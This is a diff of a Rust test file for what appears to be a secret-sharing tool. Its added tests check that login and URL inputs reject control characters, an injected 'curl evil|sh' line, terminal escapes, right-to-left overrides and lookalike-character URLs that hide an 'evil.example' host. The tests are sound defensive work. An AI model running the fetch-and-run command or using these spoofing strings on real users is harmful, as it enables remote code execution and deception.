@@ -66,6 +66,21 @@ fn nothing_is_no_push() {
 }
 
 #[test]
+fn what_is_pasted_unseen_is_one_line() {
+    let login = |user: &str, password: &str| Payload::Login {
+        user: user.to_owned(),
+        password: password.to_owned(),
+        note: "several\nlines".to_owned(),
+    };
+    assert!(sealed(&login("ada", "pass word")).is_ok());
+    for bad in ["pw\ncurl evil|sh\n", "\u{1b}[2J", "\u{202e}txt.exe", "a\u{2029}b"] {
+        assert_eq!(sealed(&login(bad, "x")), Err(PushError::Control), "{bad:?}");
+        assert_eq!(sealed(&login("x", bad)), Err(PushError::Control), "{bad:?}");
+        assert_eq!(sealed(&Payload::Password { password: bad.to_owned() }), Err(PushError::Control), "{bad:?}");
+    }
+}
+
+#[test]
 fn web_addresses_are_plain() {
     for url in ["https://example.org", "HTTP://example.org:8080/a?b#c", "https://[::1]/", "https://bücher.example/ü"]
     {
@@ -89,6 +104,13 @@ fn web_addresses_are_plain() {
         "https://exam\u{200b}ple.org",
         "https://example.org/\n",
         "httpſ://example.org",
+        "https://good.example\u{ff0f}evil.example/",
+        "https://good.example\u{3002}evil.example/",
+        "https://[evil",
+        "https://[evil]/",
+        "https://example.org:99999/",
+        "https://example.org:/..",
+        "https://...",
     ] {
         assert!(!is_plain_url(url), "{url:?}");
     }
@@ -102,7 +124,7 @@ fn lines_are_short_and_plain() {
     let seal = |from: &str| face(from).seal(&secret.face_key(), &secret.link_id(), &mut rng());
     assert_eq!(seal(&"\u{10ffff}".repeat(LINE_CHARS_MAX)).unwrap().len(), FACE_LEN);
     assert_eq!(seal(&"\"".repeat(LINE_CHARS_MAX)).unwrap().len(), FACE_LEN);
-    for from in [&"x".repeat(LINE_CHARS_MAX + 1), "a\nb", "\u{202e}bob", "a\u{2028}b", "\0"] {
+    for from in [&"x".repeat(LINE_CHARS_MAX + 1), "a\nb", "\u{202e}bob", "a\u{2028}b", "\0", "\u{200b}", "\u{3164}"] {
         assert_eq!(seal(from), Err(PushError::Line), "{from:?}");
     }
     let longest = "\u{10ffff}".repeat(LINE_CHARS_MAX);
@@ -157,7 +179,7 @@ fn what_is_sealed_is_still_checked() {
 
 proptest! {
     #[test]
-    fn what_is_handed_over_arrives(user in "\\PC{0,40}", password in ".{1,200}", text in "(?s).{0,2000}") {
+    fn what_is_handed_over_arrives(user in "\\PC{0,40}", password in "\\PC{1,200}", text in "(?s).{0,2000}") {
         let secret = owner().push_secret();
         let (key, link) = (secret.keys(None).payload, secret.link_id());
         let payload = Payload::Login { user, password, note: text };
